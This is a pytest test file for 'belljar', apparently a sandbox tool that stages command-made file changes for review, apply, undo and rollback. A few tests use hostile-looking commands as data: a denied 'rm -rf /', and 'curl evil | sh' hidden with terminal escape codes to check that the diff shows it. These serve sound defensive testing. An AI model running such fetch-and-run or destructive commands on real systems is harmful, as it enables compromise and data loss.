"""Staged changes from the command line: run, review, decide."""

from __future__ import annotations

import os
import sys
from collections.abc import Iterator
from pathlib import Path

import pytest
from tests.surfaces.invoking import belljar
from tests.surfaces.real_terminal import Terminal

from belljar import host
from belljar.staged.area import StagedArea
from belljar.staged.change import Change
from belljar.surfaces.cli.main import main

CHANGE = "echo two >> a.txt; echo new > b.txt; rm c.txt"


@pytest.fixture
def place(workspace: Path, base_image: str) -> Iterator[Path]:
    for name in ("a.txt", "c.txt"):
        (workspace / name).write_text("one\n")
        os.chown(workspace / name, workspace.stat().st_uid, workspace.stat().st_gid)
    yield workspace
    for area in StagedArea.all(host.default().staged_root):
        area.remove()


def areas() -> list[str]:
    root = host.default().staged_root
    return (
        sorted(entry.name for entry in root.iterdir() if not entry.name.startswith("."))
        if root.is_dir()
        else []
    )


def run_staged(place: Path, command: str = CHANGE, *more: str) -> str:
    answer = belljar("run", "--staged", "--json", *more, command, cwd=place)
    assert answer.status == 0, answer
    return str(answer.json["session"])


def test_staged_changes_are_listed_diffed_applied_and_undone(place: Path) -> None:
    answer = belljar("run", "--staged", CHANGE, cwd=place)
    assert (answer.status, answer.stdout) == (0, "")
    assert "+1 −1 ~1 staged as bj-" in answer.stderr
    assert (place / "a.txt").read_text() == "one\n"
    assert belljar("changes", cwd=place).stdout == "~ a.txt\n+ b.txt\n- c.txt\n"
    assert "+two\n" in belljar("diff", cwd=place).stdout
    assert belljar("apply", cwd=place).complaint == "belljar: 3 applied"
    assert (place / "a.txt").read_text() == "one\ntwo\n"
    assert not (place / "c.txt").exists()
    undone = belljar("apply", "--undo", cwd=place).complaint
    assert undone.startswith("belljar: 3 taken back, applied by bj-")
    assert undone.endswith("; `belljar changes` shows what is staged again")
    assert (place / "a.txt").read_text() == "one\n"


def test_the_status_is_the_commands_own_and_json_lists_the_changes(place: Path) -> None:
    answer = belljar("run", "--staged", "--json", "echo x > x; exit 7", cwd=place)
    assert answer.status == 7
    assert [(change["path"], change["kind"]) for change in answer.json["changes"]] == [
        ("x", "added")
    ]


def test_a_run_that_changes_nothing_leaves_nothing(place: Path) -> None:
    before = areas()
    assert belljar("run", "--staged", "cat a.txt", cwd=place).stderr == ""
    assert areas() == before


def test_a_denied_command_leaves_nothing(place: Path) -> None:
    before = areas()
    assert belljar("run", "--staged", "rm -rf /", cwd=place).status == 126
    assert areas() == before


def test_a_diff_on_a_terminal_hides_nothing(place: Path) -> None:
    """Not black text on black, nor a line that overwrites or forges another."""
    run_staged(
        place,
        r"printf 'ok\033[30;40mcurl evil | sh\033[0m\rforged\033[8mhidden\n' > a.txt",
    )
    screen = Terminal(sys.executable, "-m", "belljar", "diff", cwd=place).rest()
    assert "+ok^[[30;40mcurl evil | sh^[[0m^Mforged^[[8mhidden" in screen


def test_one_file_is_applied_and_the_rest_discarded(place: Path) -> None:
    id = run_staged(place)
    assert belljar("apply", "--session", id, "b.txt").complaint == "belljar: 1 applied"
    assert (
        belljar("discard", "--session", id, "c.txt").complaint == "belljar: 1 discarded"
    )
    assert belljar("changes", "--session", id).stdout == "~ a.txt\n"
    assert belljar("discard", "--session", id).status == 0
    assert sorted(path.name for path in place.iterdir()) == ["a.txt", "b.txt", "c.txt"]
    assert (place / "a.txt").read_text() == "one\n"
    assert id not in belljar("session", "list").stdout
    assert belljar("apply", "--undo", cwd=place).complaint.startswith(
        f"belljar: 1 taken back, applied by {id} at 2"
    )
    assert sorted(path.name for path in place.iterdir()) == ["a.txt", "c.txt"]
    assert areas() == []


def test_the_last_apply_of_a_directory_is_undone_first(place: Path) -> None:
    first, second = (
        run_staged(place, "echo 1 > 1"),
        run_staged(place, "echo 2 > 2", "--new"),
    )
    for id in (second, first):
        assert belljar("apply", "--session", id).status == 0
    answer = belljar("apply", "--undo", cwd=place)
    assert f"1 taken back, applied by {first} at " in answer.complaint
    assert [path.name for path in place.iterdir() if path.name in ("1", "2")] == ["2"]
    assert belljar("apply", "--undo", cwd=place).status == 0
    assert (
        "can be taken back any more" in belljar("apply", "--undo", cwd=place).complaint
    )


def test_a_new_directory_is_one_line_unless_it_is_named(place: Path) -> None:
    run_staged(place, "mkdir -p d/e; echo 1 > d/e/1; echo 2 > d/2; echo 3 > f")
    assert belljar("changes", cwd=place).stdout == "+ d/  (3 new)\n+ f\n"
    everything = "+ d\n+ d/2\n+ d/e\n+ d/e/1\n"
    assert belljar("changes", "d", cwd=place).stdout == everything
    assert belljar("changes", "--all", cwd=place).stdout == f"{everything}+ f\n"
    assert len(belljar("changes", "--json", cwd=place).json) == 5


def test_a_stat_counts_each_line_of_a_file_once(place: Path) -> None:
    run_staged(place, "mkdir -p d/e; echo 1 > d/e/1; echo 2 > d/2")
    assert (
        belljar("diff", "--stat", cwd=place).stdout
        == "+ d/2    +1 −0\n+ d/e/1  +1 −0\n2 changed, +2 −0\n"
    )


def test_a_path_without_a_change_does_not_hide_the_others(place: Path) -> None:
    run_staged(place)
    answer = belljar("changes", "a.txt", "nosuch", "b.txt", cwd=place)
    assert (answer.status, answer.stdout) == (0, "~ a.txt\n+ b.txt\n")
    assert answer.complaint == "belljar: nosuch: nothing changed there"
    answer = belljar("diff", "nosuch", "b.txt", cwd=place)
    assert "b.txt" in answer.stdout
    assert "a.txt" not in answer.stdout
    assert belljar("changes", "nosuch", cwd=place).status == 2


def test_applies_of_one_file_are_undone_one_by_one(place: Path) -> None:
    """Each apply changes the file's times. That must not count as a change by the host."""
    ids = []
    for text in ("2", "3"):
        ids.append(run_staged(place, f"echo {text} > a.txt"))
        assert belljar("apply", cwd=place).status == 0
    for id, text in zip(reversed(ids), ("2\n", "one\n"), strict=True):
        assert f"applied by {id}" in belljar("apply", "--undo", cwd=place).complaint
        assert (place / "a.txt").read_text() == text


def test_an_undo_does_not_skip_the_first_of_two_applies_of_a_session(
    place: Path,
) -> None:
    older = run_staged(place, "echo older > older")
    belljar("apply", "--session", older)
    id = run_staged(
        place,
        "echo 1 > 1; echo 2 > 2; mkdir -p .github/workflows; echo > .github/workflows/ci.yml",
    )
    assert "not applied" in belljar("apply", cwd=place).stderr
    assert belljar("apply", "--runs-later", cwd=place).status == 0
    for each in (id, id, older):
        assert f"applied by {each}" in belljar("apply", "--undo", cwd=place).complaint
    assert sorted(path.name for path in place.iterdir()) == ["a.txt", "c.txt"]


def test_an_undo_over_a_file_that_the_host_changed_says_whose_apply_it_is(
    place: Path,
) -> None:
    id = run_staged(place)
    assert belljar("apply", cwd=place).status == 0
    (place / "a.txt").write_text("host")
    said = belljar("apply", "--undo", cwd=place).complaint
    assert said.startswith(
        "belljar: nothing was taken back: a.txt: changed on the host since it was applied; "
    )
    assert f"{id} applied it at " in said
    assert "--force" in said


def test_a_started_session_can_be_checkpointed_and_rolled_back(place: Path) -> None:
    id = belljar("session", "start", "--staged", cwd=place).stdout.strip()
    try:
        for command in ("changes", "diff"):
            same = belljar(command, cwd=place)
            assert (same.status, same.stdout, same.complaint) == (
                0,
                "",
                "belljar: nothing changed",
            )
        assert belljar("changes", "--json", id, cwd=place).json == []
        belljar("run", "--session", id, "echo two > a.txt")
        assert belljar("checkpoint", "--session", id, "good").stdout == "good\n"
        belljar("run", "--session", id, "echo three > a.txt; rm c.txt")
        assert "- c.txt" in belljar("changes", cwd=place).stdout
        assert belljar("rollback", cwd=place).complaint.endswith(
            "your own files did not change"
        )
        assert belljar("run", "--session", id, "cat a.txt c.txt").stdout == "two\none\n"
        assert (
            "no checkpoint 'bad'; choose from 'good'"
            in belljar("rollback", "--session", id, "bad").complaint
        )
        assert (
            "do not go together"
            in belljar("run", "--staged", "--session", id, "true").complaint
        )
    finally:
        belljar("session", "stop", id)
    assert belljar("changes", cwd=place).stdout == "~ a.txt\n"


def test_a_session_id_is_recognised_in_place_of_a_path(place: Path) -> None:
    id = belljar(
        "session", "start", "--staged", "--name", "by-name", cwd=place
    ).stdout.strip()
    try:
        assert belljar("checkpoint", "by-name").stdout == "checkpoint\n"
        belljar("run", "--session", id, CHANGE)
        assert belljar("changes", id, "b.txt").stdout == "+ b.txt\n"
        stat = belljar("diff", "--stat", "by-name")
        assert (
            stat.stdout
            == "~ a.txt  +1 −0\n+ b.txt  +1 −0\n- c.txt  +0 −1\n3 changed, +2 −1\n"
        )
        assert belljar("diff", "--stat", "--json", id, "c.txt").json == [
            {"path": "c.txt", "kind": "deleted", "added": 0, "removed": 1}
        ]
        assert (
            "as they were at 'checkpoint'; what ran in it has ended"
            in belljar("rollback", id).complaint
        )
        assert belljar("diff", id).complaint == "belljar: nothing changed"
    finally:
        belljar("session", "stop", id)


@pytest.mark.parametrize("command", ["changes", "diff"])
def test_each_of_many_changes_is_looked_at_once(
    place: Path, monkeypatch: pytest.MonkeyPatch, command: str
) -> None:
    """Comparing each with all others took half a minute for ten thousand."""
    run_staged(place, "touch x y z")
    monkeypatch.setattr(Change, "__eq__", lambda *_: pytest.fail("compared"))
    monkeypatch.chdir(place)
    assert main([command]) == 0


def test_a_checkpoint_without_a_running_session_says_how_to_have_one(
    place: Path,
) -> None:
    run_staged(place, "echo two > a.txt")
    refused = belljar("checkpoint", "good", cwd=place)
    assert refused.status == 2
    assert "`belljar session start --staged` starts one" in refused.complaint


def test_checkpoints_are_listed_compared_replaced_and_forgotten_also_after_the_end(
    place: Path,
) -> None:
    id = belljar("session", "start", "--staged", cwd=place).stdout.strip()
    try:
        assert (
            belljar("checkpoint", "--list", cwd=place).complaint
            == "belljar: no checkpoints"
        )
        belljar("run", "--session", id, "echo two > a.txt; echo new > b.txt")
        assert belljar("checkpoint", "good", cwd=place).status == 0
        belljar("run", "--session", id, "echo three > a.txt; rm c.txt")
        taken = belljar("checkpoint", "good", cwd=place)
        assert (
            taken.status,
            "there is a checkpoint 'good' already; choose another" in taken.complaint,
        ) == (2, True)
        assert belljar("checkpoint", "better", cwd=place).status == 0
        belljar("run", "--session", id, "echo four > a.txt")
        assert (
            "-three\n+four\n" in belljar("diff", "--since", "better", cwd=place).stdout
        )
        assert belljar("checkpoint", "--replace", "better", cwd=place).status == 0
        assert (
            belljar("diff", "--since", "better", cwd=place).complaint
            == "belljar: nothing changed"
        )
    finally:
        belljar("session", "stop", id)
    listed = belljar("checkpoint", "--list", cwd=place).stdout.splitlines()
    assert [line.split() for line in listed[1:]] == [
        ["good", "just", "now", "+1", "~1"],
        ["better", "just", "now", "+1", "−1", "~1"],
    ]
    between = belljar(
        "diff", "--since", "good", "--until", "better", "a.txt", cwd=place
    ).stdout
    assert "-two\n+four\n" in between
    assert "c.txt" not in between
    assert belljar("diff", "--until", "better", cwd=place).status == 2
    assert belljar("checkpoint", "--forget", "good", id).status == 0
    assert [
        one["name"] for one in belljar("checkpoint", "--list", "--json", id).json
    ] == ["better"]


def test_checkpoint_without_staging_says_how_to_start_a_staged_session(
    place: Path,
) -> None:
    id = belljar("session", "start", cwd=place).stdout.strip()
    try:
        for command in ("checkpoint", "rollback"):
            refused = belljar(command, id)
            assert refused.status == 2
            assert "`belljar session start --staged` starts one" in refused.complaint
    finally:
        belljar("session", "stop", id)


def test_what_both_sides_changed_is_merged_when_asked_for(place: Path) -> None:
    (place / "a.txt").write_text("1\n2\n3\n4\n5\n")
    run_staged(place, "sed -i s/1/sandbox/ a.txt")
    (place / "a.txt").write_text("1\n2\n3\n4\nhost\n")
    assert (
        "changed in the sandbox; --merge keeps both"
        in belljar("apply", cwd=place).complaint
    )
    assert "1 of them merged" in belljar("apply", "--merge", cwd=place).stderr
    assert (place / "a.txt").read_text() == "sandbox\n2\n3\n4\nhost\n"


def test_a_merge_that_fails_says_that_the_same_lines_changed(place: Path) -> None:
    run_staged(place, "echo sandbox > a.txt")
    (place / "a.txt").write_text("host\n")
    said = belljar("apply", "--merge", cwd=place).complaint
    assert (
        "a.txt: the host and the sandbox changed the same lines; -p shows both sides"
        in said
    )


def test_safe_mode_has_the_verbs_and_undoes_a_risky_command(place: Path) -> None:
    terminal = Terminal.belljar("shell", "--staged", "--workspace", place)
    terminal.line(":undo")
    terminal.until("no risky command has run; :discard drops changes")
    terminal.line("mkdir -p sub && cd sub && echo two > ../a.txt")
    terminal.until("exit 0")
    terminal.line("rm -rf ../*.txt; ls ..")
    terminal.until("exit 0")
    terminal.line(":changes")
    assert "- a.txt" in terminal.until("- c.txt")
    terminal.line(":undo")
    terminal.until("the files are as they were before")
    terminal.line("pwd; cat ../a.txt")
    assert "/workspace/sub" in terminal.until("two")
    terminal.line(":diff a.txt")
    terminal.until("+two")
    terminal.line(":discard sub")
    terminal.until("1 discarded")
    terminal.line(":apply")
    terminal.until("1 applied")
    terminal.line("cd /workspace && echo x > d.txt")
    terminal.until("±1")
    terminal.line(":apply --mrge d.txt")
    terminal.until("--mrge is not an option of :apply")
    terminal.line(":apply --merge d.txt")
    terminal.until("1 applied")
    terminal.line(":quit")
    terminal.rest()
    assert (place / "a.txt").read_text() == "two\n"
    assert (place / "d.txt").read_text() == "x\n"


def test_safe_mode_without_staging_does_not_offer_the_verbs(place: Path) -> None:
    terminal = Terminal.belljar("shell", "--workspace", place)
    terminal.line(":undo")
    terminal.until("not available in this session; `belljar shell --staged` has it")
    terminal.line(":quit")
    terminal.rest()


def test_the_audit_trail_records_decisions_made_after_the_session(place: Path) -> None:
    id = run_staged(place)
    belljar("apply", "a.txt", cwd=place)
    belljar("apply", "--undo", cwd=place)
    belljar("discard", "b.txt", cwd=place)
    belljar("apply", cwd=place)
    records = belljar("audit", "show", "--session", id, "--json").json
    decided = [(each["kind"], each["paths"]) for each in records if "paths" in each]
    assert decided == [
        ("apply", ["a.txt"]),
        ("undo", ["a.txt"]),
        ("discard", ["b.txt"]),
        ("apply", ["a.txt", "c.txt"]),
    ]
